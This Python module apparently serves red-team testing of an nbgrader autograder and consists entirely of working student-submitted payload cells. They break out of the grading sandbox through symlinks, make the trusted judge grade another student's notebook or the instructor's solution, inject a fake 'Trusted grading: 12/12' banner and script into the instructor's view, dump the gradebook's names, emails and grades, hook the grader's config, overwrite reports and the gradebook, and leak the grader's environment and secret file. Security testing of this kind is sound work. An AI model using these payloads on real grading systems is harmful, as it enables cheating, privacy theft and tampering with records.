"""Payload cells a crafted student puts at the top of the practice warm-up (00_warmup) notebook.

The warm-up has no trusted grading but gets a feedback run: `nbgrader autograde 00_warmup` inside the sandbox,
with the unit's whole scratch folder (`/tmp/grade-<student>-*`) writable. grade_student then reuses that
scratch, OUTSIDE the sandbox, for the student's next assignment (01_eager_mode): the trusted judge reads
scratch/submitted/<me>/01_eager_mode/01_eager_mode.ipynb, the report is copied to scratch/shown-reports/, the
next feedback run loads scratch/nbgrader_config.py, and the executed folder is copied out with
shutil.copytree (symlinks followed). Each payload below is one cell of Python source.
"""

COMMON = r'''
import os, json, sqlite3
_here = os.getcwd()                      # scratch/autograded/<me>/00_warmup
_me = os.path.basename(os.path.dirname(_here))
_scratch = _here
while not os.path.isdir(os.path.join(_scratch, "shown-reports")):
    _scratch = os.path.dirname(_scratch)
_course = os.environ.get("PYTHONPATH", "").split(os.pathsep)[0]   # the grader's package root = the course
A = "01_eager_mode"
print("RT scratch", _scratch, "course", _course, "me", _me)
'''

# 1) Read the whole gradebook (a full copy of course/gradebook.db sits in the writable scratch).
GRADEBOOK_READ = r'''
try:
    _db = sqlite3.connect(os.path.join(_scratch, "gradebook.db"))
    print("RT GRADEBOOK students:", _db.execute("select id, first_name, last_name, email from student").fetchall())
    print("RT GRADEBOOK grades:", _db.execute(
        "select sa.student_id, a.name, bc.name, g.auto_score, g.manual_score from grade g "
        "join base_cell bc on g.cell_id = bc.id "
        "join submitted_notebook sn on g.notebook_id = sn.id join submitted_assignment sa on sn.assignment_id = sa.id "
        "join assignment a on sa.assignment_id = a.id").fetchall())
except Exception as _e:
    print("RT gradebook read failed", repr(_e))
'''

# 2) Make the trusted judge grade the VICTIM's submitted notebook as mine, while the sandboxed feedback run sees
#    my own notebook at the very same path (/proc/self/cwd is the course folder for the judge, scratch for nbgrader).
STEAL = r'''
VICTIM = "bob"
_mine = os.path.join(_scratch, "submitted", _me, A, A + ".ipynb")
_decoy = os.path.join(_scratch, "submitted", VICTIM, A, A + ".ipynb")
os.makedirs(os.path.dirname(_decoy), exist_ok=True)
_nb = json.load(open(_mine))
_nb["cells"].insert(1, {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source":
    "from IPython.display import display, HTML\n"
    "display(HTML('<div style=\"background:#dfd;font-size:20px\">Trusted grading: 12/12 points, every check passed "
    "(verified by the course grader)</div><script>document.title = \"RT-INJECTED-SCRIPT\"; /* runs in formgrader at "
    "the instructor origin */</script>'))\n"})
with open(_decoy, "w") as _g:
    json.dump(_nb, _g)
os.remove(_mine)
os.symlink(f"/proc/self/cwd/submitted/{VICTIM}/{A}/{A}.ipynb", _mine)
print("RT planted", _mine, "->", os.readlink(_mine))
'''

# 3) Plant code in scratch/nbgrader_config.py (loaded by the next feedback run) that, after nbgrader's chmod of the
#    executed folder, leaves symlinks there; grade_student's copytree follows them outside the sandbox.
LEAK_LINKS = r'''
_hook = """
import os as _os
from nbgrader.converters.base import BaseConverter as _BC
_orig_sp = _BC.set_permissions
def _sp(self, assignment_id, student_id):
    _orig_sp(self, assignment_id, student_id)
    dest = self._format_dest(assignment_id, student_id)
    for name, target in LINKS:
        try:
            _os.symlink(target, _os.path.join(dest, name))
        except OSError:
            pass
_BC.set_permissions = _sp
"""
with open(os.path.join(_scratch, "nbgrader_config.py"), "a") as _f:
    _f.write("\nLINKS = " + repr(LINKS) + "\n" + _hook)
print("RT hooked nbgrader_config.py with", LINKS)
'''

LINKS_SECRET = r'''
LINKS = [("grader-environ.html", "/proc/self/environ"),
         ("gradebook.html", "/proc/self/cwd/gradebook.db"),
         ("bob-notebook.html", "/proc/self/cwd/submitted/bob/01_eager_mode/01_eager_mode.ipynb")]
'''

LINKS_ZERO = r'''
LINKS = [("zero.html", "/dev/zero")]
'''


# 4) Overwrite a file outside the sandbox: grade_student copies my trusted report to scratch/shown-reports/A.json
#    with shutil.copy, which follows a symlink planted there.
def overwrite(target_expr: str) -> str:
    return r'''
_link = os.path.join(_scratch, "shown-reports", A + ".json")
os.symlink(''' + target_expr + r''', _link)
print("RT planted", _link, "->", os.readlink(_link))
'''


OVERWRITE_BOB_REPORT = overwrite('os.path.join(_course, "results", "bob", "reports", A + ".json")')
OVERWRITE_GRADEBOOK = overwrite('os.path.join(_course, "gradebook.db")')

PAYLOADS = {
    "mallory": COMMON + STEAL + LINKS_SECRET + LEAK_LINKS + GRADEBOOK_READ,
    "trudy": COMMON + OVERWRITE_BOB_REPORT,
    "zed": COMMON + OVERWRITE_GRADEBOOK,
    "olga": COMMON + LINKS_ZERO + LEAK_LINKS,
}


# 5) One assignment only, no warm-up: the 01 notebook itself starts a process in a new session (it outlives the
#    kernel's shutdown, though not the sandbox) that waits for nbgrader's chmod of the executed notebook (0444), then
#    leaves a symlink beside it; grade_student's copytree, outside the sandbox, follows it.
SOLO = r'''
import os, subprocess, sys
_code = """
import os, sys, time
nb = sys.argv[1]
t0 = time.time()
while time.time() - t0 < 120:
    try:
        if os.stat(nb).st_mode & 0o777 == 0o444:
            break
    except FileNotFoundError:
        pass
    time.sleep(0.002)
for name, target in [("grader-environ.html", "/proc/self/environ")]:
    try:
        os.symlink(target, os.path.join(os.path.dirname(nb), name))
    except OSError:
        pass
"""
subprocess.Popen([sys.executable, "-c", _code, os.path.join(os.getcwd(), "01_eager_mode.ipynb")],
                 start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print("RT solo watcher started")
'''
PAYLOADS["sam"] = SOLO

# the same, once the first leak showed COURSE_GRADING_SECRET_FILE's path in the grader's environment
PAYLOADS["sam2"] = SOLO.replace('[("grader-environ.html", "/proc/self/environ")]',
                                '[("grader-environ.html", "/proc/self/environ"), '
                                '("secret-file.html", "/tmp/redteam4/attacks/instructor-secret")]')


# 6) In the trusted judge itself: the worker replaces its own log, scratch/worker.log (its scratch is writable),
#    with a symlink and exits; the judge reads the log's last lines (Session._death, outside the sandbox, following
#    the link) into the report, which the feedback shows.
def worker_log(target: str) -> str:
    return r'''
import os
if os.environ.get("AUTOGRADER_WORKER"):
    try:
        os.remove("worker.log")
    except OSError:
        pass
    os.symlink(''' + repr(target) + r''', "worker.log")
    os._exit(3)
'''


PAYLOADS["wes"] = worker_log("/proc/self/environ")
PAYLOADS["wes2"] = worker_log("/tmp/redteam4/attacks/instructor-secret")

# 2b) the same, with no victim: the judge grades the instructor's own solution (course/solutions/, nbgrader's source
#     folder, always on the grading host); the sandboxed feedback run sees my notebook at the same path.
PAYLOADS["mia"] = COMMON + STEAL.replace(
    '_decoy = os.path.join(_scratch, "submitted", VICTIM, A, A + ".ipynb")',
    '_decoy = os.path.join(_scratch, "solutions", A, A + ".ipynb")').replace(
    'f"/proc/self/cwd/submitted/{VICTIM}/{A}/{A}.ipynb"', 'f"/proc/self/cwd/solutions/{A}/{A}.ipynb"')
